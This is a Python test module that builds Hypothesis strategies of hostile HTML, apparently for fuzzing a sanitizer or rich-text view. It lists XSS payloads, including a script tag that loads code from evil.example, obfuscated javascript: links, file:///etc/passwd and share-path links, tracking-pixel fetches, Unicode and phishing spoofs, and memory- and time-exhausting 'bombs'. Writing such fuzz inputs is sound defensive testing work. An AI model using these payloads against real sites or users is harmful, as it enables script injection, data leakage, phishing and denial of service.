"""Texts that somebody wrote to do harm: to run, to fetch, to lead astray, or to bring to a halt."""

from __future__ import annotations

from hypothesis import strategies as st

_FAR = "https://tracker.example"

RUN = (
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)><p>x",
    "<svg onload=alert(1)><a xlink:href='javascript:x'><text>x</text></a></svg>",
    "<svg><script>alert(1)</script><foreignObject><iframe src=x></foreignObject></svg>",
    "<math><maction actiontype='statusline#x' xlink:href='javascript:x'>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x&gt;'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=x><textarea onfocus=x>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form id=t><input name=parentNode><button formaction=javascript:x>Go</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<xmp><img src=x onerror=x></xmp><plaintext><script>x</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src='x' title='`onerror=alert(1)`'><!--[if IE]><script>x</script><![endif]-->",
    "<template><img src=x onerror=alert(1)></template><slot onslotchange=x>",
    "<embed src='data:text/html,<script>x</script>'><object data='javascript:x'></object>",
    "<?php x ?><%x%><![CDATA[<script>x</script>]]>",
)
"""Forms by which texts have run programs in browsers."""

LEAD = tuple(
    f"<a href='{address}'>x</a>"
    for address in (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A&#x61vascript&colon;alert(1)",
        "javascript&#58;alert(1)",
        "\x01javascript:alert(1)",
        "vbscript:x",
        "data:text/html;base64,PHNjcmlwdD4=",
        "file:///etc/passwd",
        "file://server.example/share/x.exe",
        "\\\\server.example\\share\\x.exe",
        "qrc:/icons/x.svg",
        "qt.resource:x",
        "smb://server.example/share",
        "ms-settings:privacy",
        "search-ms:query=x&crumb=location:%5C%5Cevil.example",
        "steam://run/1",
        "ssh://evil.example",
        "view-source:https://evil.example",
        "blob:https://evil.example/1",
        "chrome://settings",
        "about:blank",
        "companion-app:discard/item-1",
        "companion-app:delete/post-1",
        "companion-open:post-1#https%3A%2F%2Fevil.example",
        "companion-copy:rm",
        "companion-app-code:rm",
        "take-back:1",
    )
)
"""Links to what must not be opened, our own actions among them: only we may write those."""

FETCH = (
    f"<img src='{_FAR}/1.gif'>",
    f"<img src='//tracker.example/1.gif' srcset='{_FAR}/2.gif 2x'>",
    "<img src='file:///etc/passwd'><img src='/etc/passwd'><img src='../../../etc/passwd'>",
    "<img src='qrc:/icons/x.svg'><img src=':/icons/x.svg'>",
    "<img src='data:image/svg+xml,<svg onload=x>'><img src='data:image/png;base64,iVBORw0KGgo='>",
    f"<picture><source srcset='{_FAR}/1.webp'><img src='{_FAR}/1.png'></picture>",
    f"<p style='background:url({_FAR})'>x</p><p style='background-image:url(file:///x.png)'>x",
    f"<body background='{_FAR}/1.gif' bgcolor=red><table background='{_FAR}'><td background=x>y",
    f"<style>@import '{_FAR}'; body{{background:url({_FAR})}}</style>",
    f"<link rel=stylesheet href={_FAR}><link rel=prefetch href={_FAR}>",
    f"<base href='{_FAR}/'><img src='1.gif'><a href='page'>x</a>",
    f"<meta http-equiv=refresh content='0;url={_FAR}'>",
    f"<iframe src='{_FAR}'></iframe><frame src='{_FAR}'><portal src='{_FAR}'>",
    f"<ul style='list-style-image:url({_FAR})'><li>x</ul><input type=image src='{_FAR}'>",
    f"<a href='{_FAR}' ping='{_FAR}/ping'>x</a><q cite='{_FAR}'>x</q>",
    f"<p style='font-family:url({_FAR});-qt-block-indent:9;-qt-paragraph-type:empty'>x</p>",
    "<hr style='-qt-user-state:1'><table style='-qt-table-type:root'><td>x</table>",
)
"""Whatever a view might load by itself."""

DECEIVE = (
    "<a href='https://evil.example'>https://academy.example/sign-in</a>",
    "<a href='https://academy.example@evil.example/'>academy</a>",
    "<p>\u202egnp.exe</p><p>\u2067x\u2066y</p><bdo dir=rtl>evil</bdo>",
    "<p>a\u200bb\u200cc\u200dd\u2060e\ufeff</p>" + "\u200b" * 500,
    "<p>Z" + "\u0335\u0489" * 300 + "</p>",
    "<p style='position:fixed;top:0;left:0;font-size:900px'>Sign in anew</p>",
    "<p>a\x00b\x07c\x1b[31md\ufffe\uffff\ud83d\ude00</p>",
    '<p dir=\'rtl" onclick="x\'>x</p><p lang="\'><script>x</script>">x</p>',
)
"""What looks like something else."""

NESTED = {
    "blocks": "<div>" * 10_000 + "x" + "</div>" * 10_000,
    "quotes": "<blockquote>" * 10_000 + "x",
    "lists": "<ul><li>" * 5_000 + "x",
    "letters": "<b><i>" * 5_000 + "x",
    "spans": "<span lang=x>" * 10_000 + "x",
    "tables": "<table><tr><td>" * 3_000 + "x",
    "a few tables": "<table><tr><td>" * 60 + "x",
    "some quotes": "<blockquote>" * 250 + "x",
    "links": "<a href=https://a.example><div></a>" * 3_000 + "x",
    "letters in each paragraph": "".join(f"<b title={n}>" for n in range(250)) + "<p>x" * 3_000,
}
LARGE = {
    "a table of very many cells": "<table>"
    + ("<tr>" + "<td>x</td>" * 100 + "</tr>") * 500
    + "</table>",
    "a table of very many columns": "<table><tr>" + "<td>x</td>" * 20_000,
    "a cell over very many columns": "<table><tr><td colspan=99999999 rowspan=99999999>x",
    "cells over very many columns": "<table><tr>" + "<td colspan=1000>x</td>" * 200,
    "cells over very many rows": "<table>" + "<tr><td rowspan=65534>x" * 500,
    "a column of columns": "<table><colgroup span=99999999><col span=99999999><tr><td>x",
    "a picture beyond all": "<img src=https://a.example/1 width=99999999 height=1e30>",
    "a picture below nothing": "<img src=https://a.example/1 width=-9 height=-1e99>",
    "very many pictures": "<img src=https://a.example/1 width=9>" * 10_000,
    "very many paragraphs": "<p>x</p>" * 50_000,
    "very many line breaks": "<br>" * 100_000,
    "very many items": "<ul>" + "<li>x" * 30_000,
    "a list that begins at the end": "<ol start=99999999999999999><li>x</ol><ol type=i start=-9>",
    "a very long word": "<p>" + "a" * 600_000,
    "a very long word of signs": "<p>" + "&amp;" * 100_000,
    "very many letters of no width": "<p>" + "\u200d\u202e" * 150_000,
    "very many accents": "<p>a" + "\u0301" * 150_000,
    "very many attributes": "<a " + " ".join(f"x{n}=1" for n in range(30_000)) + ">x</a>",
    "a very long title": "<p title='" + "a" * 500_000 + "'>x</p>",
    "a very long address": "<a href='https://a.example/" + "a" * 500_000 + "'>x</a>",
    "very many beginnings": "<a " * 150_000,
    "very many formulas": "<p>" + "$$x$$ " * 20_000,
    "very many beginnings of formulas": "<p>\\)" + "\\(" * 100_000,
    "very many kinds of formulas": "<p>" + "".join(f"\\begin{{a{n}}}" for n in range(20_000)),
    "code of brackets": "<pre class='language-python'>" + "(" * 30_000 + "</pre>",
    "lines within lines": "<hr><pre>" * 10_000,
}
"""Bombs: what takes all time or all memory where nobody bounds it."""

_ELEMENTS = st.sampled_from(
    [
        "a",
        "abbr",
        "b",
        "bdo",
        "blockquote",
        "br",
        "caption",
        "code",
        "col",
        "colgroup",
        "dd",
        "div",
        "dl",
        "dt",
        "em",
        "font",
        "form",
        "h1",
        "hr",
        "i",
        "iframe",
        "img",
        "input",
        "li",
        "link",
        "math",
        "meta",
        "object",
        "ol",
        "p",
        "pre",
        "q",
        "script",
        "select",
        "small",
        "span",
        "style",
        "sub",
        "sup",
        "svg",
        "table",
        "tbody",
        "td",
        "template",
        "textarea",
        "th",
        "thead",
        "title",
        "tr",
        "tt",
        "u",
        "ul",
        "video",
        "xmp",
    ]
)
_VALUES = st.sampled_from(
    ("1", "99999999", "-1", "100%", "x", _FAR, "javascript:x", "file:///x", "qrc:/x", "data:x", "")
) | st.text(max_size=6)
_NAMES = st.sampled_from(
    [
        "href",
        "src",
        "style",
        "class",
        "id",
        "name",
        "width",
        "height",
        "colspan",
        "rowspan",
        "start",
        "type",
        "align",
        "dir",
        "lang",
        "title",
        "background",
        "onclick",
        "srcset",
        "cite",
        "span",
        "scope",
        "rel",
    ]
)


@st.composite
def _tag(draw: st.DrawFn) -> str:
    told = "".join(
        f" {name}={quote}{value}{quote}"
        for name, value in draw(st.lists(st.tuples(_NAMES, _VALUES), max_size=3))
        for quote in [draw(st.sampled_from(("'", '"', "")))]
    )
    return f"<{draw(st.sampled_from(('', '', '/')))}{draw(_ELEMENTS)}{told}>"


hostile_texts = st.lists(
    _tag()
    | st.sampled_from((*RUN, *LEAD, *FETCH, *DECEIVE))
    | st.sampled_from(("<", ">", "<!--", "-->", "'", '"', "&", "]]>", "\\(", "$$", "\x00"))
    | st.text(max_size=8),
    max_size=12,
).map("".join)
"""Whatever can be mixed of all that."""

repeated_texts = st.tuples(
    st.lists(_tag(), min_size=1, max_size=3).map("".join), st.integers(1, 600)
).map(lambda told: told[0] * told[1] + "x")
"""The same again and again, which goes deep or grows wide."""
